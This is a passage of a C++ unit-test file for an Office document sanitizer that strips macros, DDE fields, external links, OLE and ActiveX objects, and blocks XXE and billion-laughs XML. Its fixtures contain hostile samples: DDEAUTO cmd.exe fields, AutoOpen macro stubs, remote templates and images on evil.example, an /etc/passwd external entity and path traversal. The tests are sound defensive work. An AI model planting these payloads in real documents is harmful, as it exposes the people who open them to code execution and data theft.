#include "office_strip/office_strip.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <dirent.h>
#include <functional>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "office_strip/office_test_support.h"
#include "office_strip/rebuild.h"
#include "office_strip/safe_xml.h"
#include "registry.h"
#include "test_support.h"

namespace mukaika {
namespace {

using office_test::content_types;
using office_test::kRel;
using office_test::Members;
using office_test::Rel;
using office_test::rels;
using office_test::texts;
using office_test::unzip;
using office_test::zip;

const std::string kCorpus = MUKAIKA_CORPUS_DIR;

const std::string kDocxMain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const std::string kDocmMain = "application/vnd.ms-word.document.macroEnabled.main+xml";
const std::string kDocxMime = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const std::string kXlsmMain = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
const std::string kXlsxMime = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const std::string kPptmMain = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml";
const std::string kPptxMime = "application/vnd.openxmlformats-officedocument.presentationml.presentation";
const std::string kWordNsDecls =
    " xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\""
    " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""
    " xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:v=\"urn:schemas-microsoft-com:vml\""
    " xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\""
    " xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\""
    " xmlns:pic=\"http://schemas.openxmlformats.org/drawingml/2006/picture\""
    " xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\"";
const std::string kXmlDecl = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n";

bool contains(const std::string& haystack, const std::string& needle) {
  return haystack.find(needle) != std::string::npos;
}

std::string lower(std::string s) {
  for (char& c : s) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return s;
}

std::string join(const std::vector<std::string>& v, const std::string& sep = "\n") {
  std::string out;
  for (const auto& s : v) out += (out.empty() ? "" : sep) + s;
  return out;
}

// ---- running the sanitizer ----

struct Result {
  Outcome out;
  std::vector<testing::Note> notes;

  bool replaced() const { return out.action == Outcome::Action::Replace; }
  std::map<std::string, std::string> members() const { return unzip(out.bytes); }
  std::string member(const std::string& name) const {
    auto m = members();
    auto it = m.find(name);
    return it == m.end() ? std::string() : it->second;
  }
  bool noted(const std::string& code) const {
    return std::any_of(notes.begin(), notes.end(), [&](const testing::Note& n) { return n.reason.code == code; });
  }
  std::string describe() const {
    std::string s = "action " + std::to_string(static_cast<int>(out.action)) + " " + out.reason.code + ": " +
                    out.reason.en + "\n";
    for (const auto& n : notes) s += "  note " + n.reason.code + ": " + n.reason.en + "\n";
    return s;
  }
};

Result strip(const std::string& bytes, Kind kind = Kind::Office, const std::string& name = "文書.docx",
             std::function<void(Limits&)> limits = {}, const toml::table& options = {}) {
  auto sanitizer = make_office_strip_active(options);
  testing::TestContext tc;
  if (limits) limits(tc.limits);
  Item item;
  item.bytes = bytes;
  item.name = name;
  item.kind = kind;
  item.path = name;
  Result r{sanitizer->process(item, tc.ctx), tc.report.notes};
  return r;
}

// ---- building documents ----

struct Docx {
  std::string main_type = kDocxMain;
  std::string body;
  std::vector<Rel> document_rels;
  std::string settings = "<w:zoom w:percent=\"100\"/>";
  std::vector<Rel> settings_rels;
  std::vector<Rel> root_rels;  // in addition to officeDocument and core properties
  Members parts;               // more parts
  std::vector<std::pair<std::string, std::string>> overrides;
  std::string document_override;  // replaces word/document.xml when set

  std::string build() const {
    std::vector<Rel> root = {{"rId1", "officeDocument", "word/document.xml"},
                             {"rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
                              "docProps/core.xml"}};
    root.insert(root.end(), root_rels.begin(), root_rels.end());
    std::vector<Rel> doc_rels = {{"rIdStyles", "styles", "styles.xml"}, {"rIdSettings", "settings", "settings.xml"}};
    doc_rels.insert(doc_rels.end(), document_rels.begin(), document_rels.end());
    std::vector<std::pair<std::string, std::string>> types = {
        {"word/document.xml", main_type},
        {"word/styles.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"},
        {"word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"},
        {"docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml"}};
    types.insert(types.end(), overrides.begin(), overrides.end());
    Members m = {
        {"[Content_Types].xml", content_types(types)},
        {"_rels/.rels", rels(root)},
        {"word/document.xml", document_override.empty()
                                  ? kXmlDecl + "<w:document" + kWordNsDecls + "><w:body>" + body + "</w:body></w:document>"
                                  : document_override},
        {"word/_rels/document.xml.rels", rels(doc_rels)},
        {"word/styles.xml", kXmlDecl + "<w:styles" + kWordNsDecls +
                                "><w:style w:type=\"paragraph\" w:styleId=\"Normal\"><w:name w:val=\"Normal\"/></w:style></w:styles>"},
        {"word/settings.xml", kXmlDecl + "<w:settings" + kWordNsDecls + ">" + settings + "</w:settings>"},
        {"docProps/core.xml",
         kXmlDecl + "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" "
                    "xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>議事録</dc:title></cp:coreProperties>"},
    };
    if (!settings_rels.empty()) m.push_back({"word/_rels/settings.xml.rels", rels(settings_rels)});
    m.insert(m.end(), parts.begin(), parts.end());
    return zip(m);
  }
};

std::string para(const std::string& text) { return "<w:p><w:r><w:t xml:space=\"preserve\">" + text + "</w:t></w:r></w:p>"; }

// A complex field: begin, instruction runs, separate, result, end.
std::string field(const std::vector<std::string>& instruction, const std::string& result, bool separate = true) {
  std::string s = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
  for (const auto& i : instruction) s += "<w:r><w:instrText xml:space=\"preserve\">" + i + "</w:instrText></w:r>";
  if (separate) s += "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>" + result + "</w:t></w:r>";
  return s + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
}

// All instruction text left in a Word part (complex and simple fields).
std::string instructions(const std::string& xml) {
  std::string out;
  auto parsed = office_strip::parse_xml(xml);
  if (parsed.status != office_strip::XmlParse::Status::Ok) return "<unparseable>";
  std::function<void(const xmlNode*)> walk = [&](const xmlNode* n) {
    for (const xmlNode* c = n->children; c; c = c->next) {
      if (c->type != XML_ELEMENT_NODE) continue;
      if (office_strip::local_name(*c) == "instrText") out += office_strip::text_content(*c) + "|";
      if (auto instr = office_strip::attribute(*c, office_test::kWordNs, "instr")) out += *instr + "|";
      walk(c);
    }
  };
  walk(xmlDocGetRootElement(parsed.doc.get()));
  return out;
}

int count_elements(const std::string& xml, const std::string& name) {
  int n = 0;
  auto parsed = office_strip::parse_xml(xml);
  if (parsed.status != office_strip::XmlParse::Status::Ok) return -1;
  std::function<void(const xmlNode*)> walk = [&](const xmlNode* node) {
    for (const xmlNode* c = node->children; c; c = c->next) {
      if (c->type != XML_ELEMENT_NODE) continue;
      if (office_strip::local_name(*c) == name) ++n;
      walk(c);
    }
  };
  walk(xmlDocGetRootElement(parsed.doc.get()));
  return n;
}

std::string docx_image_body() {
  return "<w:p><w:r><w:drawing><wp:inline><wp:extent cx=\"100\" cy=\"100\"/><wp:docPr id=\"1\" name=\"Picture 1\"/>"
         "<a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic>"
         "<pic:nvPicPr><pic:cNvPr id=\"0\" name=\"image1.png\"/><pic:cNvPicPr/></pic:nvPicPr>"
         "<pic:blipFill><a:blip r:embed=\"rIdImg\"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>"
         "</wp:inline></w:drawing></w:r></w:p>";
}

// ---- Word ----

TEST(OfficeStripWord, BenignDocumentKeepsTextTablesPicturesAndFields) {
  Docx d;
  d.body = "<w:p><w:pPr><w:pStyle w:val=\"Normal\"/></w:pPr><w:r><w:t>議事録</w:t></w:r></w:p>" +
           para("本日の会議は午後3時に始まりました。") +
           "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w=\"2000\"/><w:gridCol w:w=\"2000\"/></w:tblGrid>"
           "<w:tr><w:tc><w:p><w:r><w:t>項目</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>金額</w:t></w:r></w:p></w:tc></w:tr>"
           "<w:tr><w:tc><w:p><w:r><w:t>備品</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>12,000円</w:t></w:r></w:p></w:tc></w:tr>"
           "</w:tbl>" +
           docx_image_body() + "<w:p>" + field({" PAGE "}, "1") + "</w:p>" +
           "<w:p><w:hyperlink w:anchor=\"top\"><w:r><w:t>先頭へ</w:t></w:r></w:hyperlink></w:p>"
           "<w:sectPr><w:headerReference w:type=\"default\" r:id=\"rIdHdr\"/></w:sectPr>";
  d.document_rels = {{"rIdImg", "image", "media/image1.png"}, {"rIdHdr", "header", "header1.xml"}};
  d.overrides = {{"word/header1.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"}};
  d.parts = {{"word/media/image1.png", office_test::tiny_png()},
             {"word/header1.xml", kXmlDecl + "<w:hdr" + kWordNsDecls + ">" + para("ヘッダー") + "</w:hdr>"}};
  const std::string input = d.build();
  Result r = strip(input, Kind::Office, "議事録.docx");
  ASSERT_TRUE(r.replaced()) << r.describe();
  EXPECT_EQ(r.out.name, "議事録.docx");
  EXPECT_EQ(r.out.type, kDocxMime);
  EXPECT_EQ(r.out.reason.code, "office.rebuilt");
  EXPECT_TRUE(r.out.cosmetic) << "nothing active was removed, so the verdict stays clean";
  EXPECT_TRUE(office_test::ooxml_problems(r.out.bytes).empty()) << join(office_test::ooxml_problems(r.out.bytes));
  auto in = unzip(input);
  auto out = r.members();
  EXPECT_EQ(texts(out["word/document.xml"]), texts(in["word/document.xml"]));
  EXPECT_EQ(texts(out["word/header1.xml"]), std::vector<std::string>{"ヘッダー"});
  EXPECT_EQ(out["word/media/image1.png"], office_test::tiny_png());
  EXPECT_EQ(instructions(out["word/document.xml"]), " PAGE |");
  EXPECT_EQ(count_elements(out["word/document.xml"], "tbl"), 1);
  EXPECT_EQ(count_elements(out["word/document.xml"], "hyperlink"), 1) << "an anchor inside the document stays";
  EXPECT_EQ(count_elements(out["word/document.xml"], "blip"), 1);
  EXPECT_EQ(out.count("docProps/core.xml"), 1u);
  // Same input, same output: the rebuild does not depend on the clock.
  EXPECT_EQ(strip(input, Kind::Office, "議事録.docx").out.bytes, r.out.bytes);
}

TEST(OfficeStripWord, MacroEnabledDocumentLosesVbaAndCustomUiAndBecomesDocx) {
  Docx d;
  d.main_type = kDocmMain;
  d.body = para("マクロ付きの文書");
  d.document_rels = {
      {"rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"},
      {"rIdKeys", "http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations", "customizations.xml"}};
  d.root_rels = {{"rIdUi", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml"},
                 {"rIdThumb", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail",
                  "docProps/thumbnail.emf"},
                 {"rIdCustom", "custom-properties", "docProps/custom.xml"}};
  d.overrides = {{"word/vbaProject.bin", "application/vnd.ms-office.vbaProject"},
                 {"word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"},
                 {"word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml"},
                 {"customUI/customUI14.xml", "application/xml"},
                 {"docProps/custom.xml", "application/vnd.openxmlformats-officedocument.custom-properties+xml"}};
  d.parts = {
      {"word/vbaProject.bin", "\xD0\xCF\x11\xE0 Attribute VB_Name = \"ThisDocument\" Sub AutoOpen() Shell \"calc\""},
      {"word/_rels/vbaProject.bin.rels",
       rels({{"rIdData", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "vbaData.xml"}})},
      {"word/vbaData.xml", kXmlDecl + "<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"/>"},
      {"word/customizations.xml", kXmlDecl + "<wne:tcg xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"/>"},
      {"customUI/customUI14.xml",
       kXmlDecl + "<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" onLoad=\"Evil\"/>"},
      {"docProps/thumbnail.emf", office_test::tiny_emf()},
      {"docProps/custom.xml", kXmlDecl + "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties\"/>"}};
  Result r = strip(d.build(), Kind::Office, "report.DOCM");
  ASSERT_TRUE(r.replaced()) << r.describe();
  EXPECT_EQ(r.out.name, "report.docx");
  EXPECT_EQ(r.out.type, kDocxMime);
  EXPECT_FALSE(r.out.cosmetic);
  EXPECT_EQ(r.out.reason.code, "office.strip_active");
  EXPECT_TRUE(r.noted("office.macros")) << r.describe();
  EXPECT_TRUE(r.noted("office.customui")) << r.describe();
  EXPECT_TRUE(r.noted("office.hidden")) << r.describe();
  EXPECT_TRUE(r.noted("office.renamed")) << r.describe();
  auto out = r.members();
  EXPECT_EQ(std::vector<std::string>({"[Content_Types].xml", "_rels/.rels", "word/document.xml",
                                      "word/_rels/document.xml.rels", "word/styles.xml", "word/settings.xml",
                                      "docProps/core.xml"}),
            office_test::member_names(r.out.bytes));
  for (const auto& [name, data] : out) {
    EXPECT_FALSE(contains(lower(name + data), "vba")) << name;
    EXPECT_FALSE(contains(lower(name + data), "customui")) << name;
    EXPECT_FALSE(contains(lower(data), "macroenabled")) << name;
  }
  EXPECT_TRUE(contains(out["[Content_Types].xml"], kDocxMain));
  EXPECT_TRUE(office_test::ooxml_problems(r.out.bytes).empty()) << join(office_test::ooxml_problems(r.out.bytes));
  EXPECT_EQ(texts(out["word/document.xml"]), std::vector<std::string>{"マクロ付きの文書"});
}

TEST(OfficeStripWord, DdeAndOtherActiveFieldsGoTheirResultsStay) {
  Docx d;
  d.body =
      "<w:p><w:r><w:t>前</w:t></w:r>" +
      // Split across runs, as attackers do to dodge string matching.
      field({" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\""}, "DDE結果") +
      "<w:r><w:t>後</w:t></w:r></w:p>"
      "<w:p><w:fldSimple w:instr=\" DDE cmd &quot;/c calc&quot; \"><w:r><w:t>単純結果</w:t></w:r></w:fldSimple></w:p>"
      "<w:p>" + field({" INCLUDEPICTURE \"http://evil.example/x.png\" \\d "}, "画像") + "</w:p>"
      "<w:p>" + field({" HYPERLINK \"http://example.jp/\" "}, "リンク文字") + "</w:p>"
      "<w:p>" + field({" MACROBUTTON AutoOpen 押して "}, "", false) + "</w:p>"
      // A field whose type another field computes: { { QUOTE 68 68 69 } ... }.
      "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + field({" QUOTE 68 68 69 "}, "DDE") +
      "<w:r><w:instrText> c:\\\\x.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
      "<w:r><w:t>入れ子</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
      // A form field keeps working but loses its macros.
      "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"><w:ffData><w:name w:val=\"Text1\"/>"
      "<w:entryMacro w:val=\"Evil\"/><w:textInput/></w:ffData><w:fldData>AAAA</w:fldData></w:fldChar></w:r>"
      "<w:r><w:instrText> FORMTEXT </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
      "<w:r><w:t>入力欄</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
      "<w:p>" + field({" PAGE "}, "7") + "</w:p>"
      // Debris: an end without a begin, an instruction outside any field.
      "<w:p><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:instrText>DDEAUTO x</w:instrText></w:r><w:r><w:t>残り</w:t></w:r></w:p>";
  const std::string input = d.build();
  Result r = strip(input);
  ASSERT_TRUE(r.replaced()) << r.describe();
  const std::string doc = r.member("word/document.xml");
  EXPECT_EQ(instructions(doc), " FORMTEXT | PAGE |");
  const std::string all = join(texts(doc), "");
  for (const char* kept : {"前", "DDE結果", "後", "単純結果", "画像", "リンク文字", "入れ子", "入力欄", "7", "残り"})
    EXPECT_TRUE(contains(all, kept)) << kept << " in " << all;
  const auto runs = texts(doc);
  EXPECT_EQ(std::count(runs.begin(), runs.end(), "DDE"), 0) << "the inner field's result was part of the outer instruction";
  EXPECT_EQ(count_elements(doc, "entryMacro"), 0);
  EXPECT_EQ(count_elements(doc, "fldData"), 0);
  EXPECT_EQ(count_elements(doc, "ffData"), 1);
  EXPECT_EQ(count_elements(doc, "fldSimple"), 0);
  EXPECT_EQ(count_elements(doc, "fldChar"), 6) << "FORMTEXT and PAGE keep begin, separate and end";
  EXPECT_TRUE(r.noted("office.dde"));
  EXPECT_TRUE(r.noted("office.fields"));
  EXPECT_TRUE(r.noted("office.hyperlinks"));
  EXPECT_TRUE(r.noted("office.macros"));
  EXPECT_TRUE(office_test::ooxml_problems(r.out.bytes).empty());
}

TEST(OfficeStripWord, ExternalRelationshipsGoAndNothingDangles) {
  Docx d;
  d.settings = "<w:attachedTemplate r:id=\"rIdTpl\"/><w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/>"
               "<w:connectString w:val=\"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil\\x.xlsx\"/></w:mailMerge>"
               "<w:docVars><w:docVar w:name=\"payload\" w:val=\"x\"/></w:docVars><w:updateFields w:val=\"true\"/>";
  d.settings_rels = {{"rIdTpl", "attachedTemplate", "http://evil.example/template.dotm", true}};
  d.body =
      "<w:p><w:hyperlink r:id=\"rIdWeb\"><w:r><w:t>外部サイト</w:t></w:r></w:hyperlink></w:p>"
      "<w:p><w:hyperlink w:anchor=\"sec1\"><w:r><w:t>第1節へ</w:t></w:r></w:hyperlink></w:p>"
      "<w:p><w:r><w:object><v:shape id=\"s1\"><v:imagedata r:id=\"rIdPreview\" o:title=\"\"/></v:shape>"
      "<o:OLEObject Type=\"Link\" ProgID=\"Word.Document.8\" r:id=\"rIdLink\" UpdateMode=\"Always\"/></w:object></w:r></w:p>"
      "<w:p><w:r><w:drawing><wp:inline><wp:extent cx=\"1\" cy=\"1\"/><wp:docPr id=\"2\" name=\"p\"/><a:graphic>"
      "<a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic><pic:nvPicPr>"
      "<pic:cNvPr id=\"0\" name=\"linked\"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>"
      "<a:blip r:embed=\"rIdImg\" r:link=\"rIdRemote\"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData>"
      "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
      "<w:altChunk r:id=\"rIdChunk\"/>"
      "<w:p><w:subDoc r:id=\"rIdSub\"/></w:p>"
      "<w:p><w:r><w:drawing><a:blip r:embed=\"rIdEscape\"/></w:drawing></w:r></w:p>" + para("本文");
  d.document_rels = {{"rIdWeb", "hyperlink", "https://evil.example/", true},
                     {"rIdPreview", "image", "media/image1.emf"},
                     {"rIdLink", "oleObject", "file:///\\\\evil\\share\\x.doc", true},
                     {"rIdImg", "image", "media/image2.png"},
                     {"rIdRemote", "image", "http://evil.example/track.png", true},
                     {"rIdChunk", "aFChunk", "afchunk.mht"},
                     {"rIdSub", "subDocument", "\\\\evil\\share\\sub.docx", true},
                     {"rIdEscape", "image", "../../../etc/passwd"}};
  d.overrides = {{"word/afchunk.mht", "message/rfc822"}};
  d.parts = {{"word/media/image1.emf", office_test::tiny_emf()},
             {"word/media/image2.png", office_test::tiny_png()},
             {"word/afchunk.mht", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"}};
  Result r = strip(d.build());
  ASSERT_TRUE(r.replaced()) << r.describe();
  auto out = r.members();
  EXPECT_TRUE(office_test::ooxml_problems(r.out.bytes).empty()) << join(office_test::ooxml_problems(r.out.bytes));
  for (const auto& [name, data] : out) {
    EXPECT_FALSE(contains(data, "TargetMode")) << name;
    EXPECT_FALSE(contains(data, "evil")) << name;
  }
  EXPECT_EQ(out.count("word/afchunk.mht"), 0u);
  const std::string settings = out["word/settings.xml"];
  for (const char* gone : {"attachedTemplate", "mailMerge", "docVars", "updateFields"})
    EXPECT_EQ(count_elements(settings, gone), 0) << gone;
  const std::string doc = out["word/document.xml"];
  EXPECT_EQ(count_elements(doc, "hyperlink"), 1) << "only the anchor stays";
  EXPECT_EQ(count_elements(doc, "OLEObject"), 0);
  EXPECT_EQ(count_elements(doc, "imagedata"), 1) << "the object's picture stays";
  EXPECT_EQ(count_elements(doc, "altChunk"), 0);
  EXPECT_EQ(count_elements(doc, "subDoc"), 0);
  EXPECT_EQ(count_elements(doc, "blip"), 1) << "the linked picture keeps its embedded copy; the escaping one goes";
  EXPECT_FALSE(contains(doc, "r:link"));
  const std::string all = join(texts(doc), "");
  EXPECT_TRUE(contains(all, "外部サイト"));
  EXPECT_TRUE(contains(all, "第1節へ"));
  EXPECT_TRUE(contains(all, "本文"));
  for (const char* code : {"office.external", "office.hyperlinks", "office.embedded"})
    EXPECT_TRUE(r.noted(code)) << code << "\n" << r.describe();
}

TEST(OfficeStripWord, OleObjectsAndActiveXGoTheirPicturesStay) {
  Docx d;
  d.body = "<w:p><w:r><w:object><v:shape id=\"o1\"><v:imagedata r:id=\"rIdEmf\"/></v:shape>"
           "<o:OLEObject Type=\"Embed\" ProgID=\"Package\" ShapeID=\"o1\" r:id=\"rIdOle\"/></w:object></w:r></w:p>"
           "<w:p><w:r><w:object><v:shape id=\"c1\"><v:imagedata r:id=\"rIdEmf\"/></v:shape>"
           "<w:control r:id=\"rIdAx\" w:name=\"CommandButton1\" w:shapeid=\"c1\"/></w:object></w:r></w:p>" +
           para("オブジェクトの後");
  d.document_rels = {{"rIdEmf", "image", "media/image1.emf"},
                     {"rIdOle", "oleObject", "embeddings/oleObject1.bin"},
                     {"rIdAx", "control", "activeX/activeX1.xml"}};
  d.overrides = {{"word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"},
                 {"word/activeX/activeX1.bin", "application/vnd.ms-office.activeX"}};
  d.parts = {{"word/media/image1.emf", office_test::tiny_emf()},
             {"word/embeddings/oleObject1.bin", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 Ole10Native calc.exe MZ"},
             {"word/activeX/activeX1.xml", kXmlDecl + "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" "
                                                      "ax:classid=\"{D7053240-CE69-11CD-A777-00DD01143C57}\"/>"},
             {"word/activeX/_rels/activeX1.xml.rels",
              rels({{"rIdBin", "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", "activeX1.bin"}})},
             {"word/activeX/activeX1.bin", "binary control"}};
  Result r = strip(d.build());
  ASSERT_TRUE(r.replaced()) << r.describe();
  auto out = r.members();
  for (const auto& [name, data] : out) {
    EXPECT_FALSE(contains(lower(name), "embeddings")) << name;
    EXPECT_FALSE(contains(lower(name + data), "activex")) << name;
    EXPECT_FALSE(contains(lower(data), "oleobject")) << name;
  }
  EXPECT_EQ(out["word/media/image1.emf"], office_test::tiny_emf());
  EXPECT_EQ(count_elements(out["word/document.xml"], "control"), 0);
  EXPECT_EQ(count_elements(out["word/document.xml"], "imagedata"), 2);
  EXPECT_TRUE(r.noted("office.embedded"));
  EXPECT_TRUE(r.noted("office.activex"));
  EXPECT_TRUE(office_test::ooxml_problems(r.out.bytes).empty()) << join(office_test::ooxml_problems(r.out.bytes));
}

TEST(OfficeStripWord, PictureWhoseBytesLieIsDropped) {
  Docx d;
  d.body = docx_image_body() + para("本文");
  d.document_rels = {{"rIdImg", "image", "media/image1.png"}};
  d.parts = {{"word/media/image1.png", std::string("MZ\x90\x00\x03\x00\x00\x00 This program cannot be run in DOS mode", 48)}};
  Result r = strip(d.build());
  ASSERT_TRUE(r.replaced()) << r.describe();
  EXPECT_EQ(r.members().count("word/media/image1.png"), 0u);
  EXPECT_EQ(count_elements(r.member("word/document.xml"), "blip"), 0);
  EXPECT_TRUE(r.noted("office.images"));
  EXPECT_TRUE(office_test::ooxml_problems(r.out.bytes).empty());
}

// ---- XML safety ----

const std::string kBillionLaughs =
    "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
    "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
    "<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">"
    "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">"
    "<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">"
    "<!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">"
    "<!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">"
    "<!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">"
    "<!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">"
    "<!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">]>";

TEST(OfficeStripXml, BillionLaughsInTheDocumentIsBlocked) {
  Docx d;
  d.document_override = kBillionLaughs + "<w:document" + kWordNsDecls + "><w:body>" + para("&lol9;") + "</w:body></w:document>";
  Result r = strip(d.build());
  EXPECT_EQ(r.out.action, Outcome::Action::Block) << r.describe();
  EXPECT_EQ(r.out.reason.code, "office.doctype");
}

TEST(OfficeStripXml, ExternalEntitiesAnywhereAreBlocked) {
  const std::string xxe = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>";
  Docx base;
  base.body = para("x");
  auto m = unzip(base.build());
  for (const std::string part : {"[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels", "word/styles.xml"}) {
    Members members;
    for (const auto& [name, data] : m) {
      std::string d = data;
      if (name == part) d = xxe + data.substr(data.find("?>") + 2);
      members.push_back({name, d});
    }
    // [Content_Types].xml first, as in a real package.
    std::stable_partition(members.begin(), members.end(), [](const auto& p) { return p.first == "[Content_Types].xml"; });
    Result r = strip(zip(members));
    EXPECT_EQ(r.out.action, Outcome::Action::Block) << part << "\n" << r.describe();
    EXPECT_EQ(r.out.reason.code, "office.doctype") << part;
  }
}

TEST(OfficeStripXml, MalformedPartsAndUndefinedEntitiesAreBlocked) {
  for (const std::string body : {"<w:p><w:r><w:t>unclosed</w:r></w:p>", "<w:p><w:r><w:t>&undefined;</w:t></w:r></w:p>"}) {
    Docx d;
    d.body = body;
    Result r = strip(d.build());
    EXPECT_EQ(r.out.action, Outcome::Action::Block) << body;
    EXPECT_EQ(r.out.reason.code, "office.malformed") << body;
  }
}

// ---- containers ----

TEST(OfficeStripPackage, LimitsBlock) {
  Docx d;
  d.body = para(std::string(200000, 'a'));
  const std::string big = d.build();
  Result part = strip(big, Kind::Office, "x.docx", [](Limits& l) { l.max_item_bytes = 100000; });
  EXPECT_EQ(part.out.action, Outcome::Action::Block);
  EXPECT_EQ(part.out.reason.code, "office.limits.part_bytes") << part.describe();

  Docx two;
  two.body = para(std::string(90000, 'a'));
  two.parts = {{"word/unused.xml", std::string(90000, 'b')}};
  Result total = strip(two.build(), Kind::Office, "x.docx", [](Limits& l) { l.max_total_bytes = 150000; });
  EXPECT_EQ(total.out.reason.code, "office.limits.total_bytes") << total.describe();

  Docx many;
  many.body = para("x");
  for (int i = 0; i < 20; ++i) many.parts.push_back({"junk/" + std::to_string(i) + ".xml", "<a/>"});
  Result members = strip(many.build(), Kind::Office, "x.docx", {}, toml::parse("max_members = 10"));
  EXPECT_EQ(members.out.reason.code, "office.limits.members") << members.describe();
  // The same package with the default limit is fine, and the junk is gone.
  Result ok = strip(many.build());
  ASSERT_TRUE(ok.replaced()) << ok.describe();
  EXPECT_EQ(ok.members().size(), 7u);
}

TEST(OfficeStripPackage, AmbiguousPackagesAreBlocked) {
  Docx d;
  d.body = para("x");
  d.parts = {{"Word/Document.xml", "<w:document" + kWordNsDecls + "><w:body>" + para("other") + "</w:body></w:document>"}};
  Result names = strip(d.build());
  EXPECT_EQ(names.out.action, Outcome::Action::Block);
  EXPECT_EQ(names.out.reason.code, "office.ambiguous");

  Docx ids;
  ids.body = para("x");
  ids.document_rels = {{"rIdStyles", "image", "media/image1.png"}};
  Result dup = strip(ids.build());
  EXPECT_EQ(dup.out.reason.code, "office.ambiguous") << dup.describe();
}

TEST(OfficeStripPackage, DamagedOrNotOfficeIsBlocked) {
  EXPECT_EQ(strip("PK\x03\x04 not really a zip").out.reason.code, "office.unparseable");
  EXPECT_EQ(strip(zip({{"word/document.xml", "<a/>"}})).out.reason.code, "office.unparseable");
  // A header part whose content is a whole document: not what it claims.
  Docx d;
  d.body = para("x") + "<w:sectPr><w:headerReference w:type=\"default\" r:id=\"rIdHdr\"/></w:sectPr>";
  d.document_rels = {{"rIdHdr", "header", "header1.xml"}};
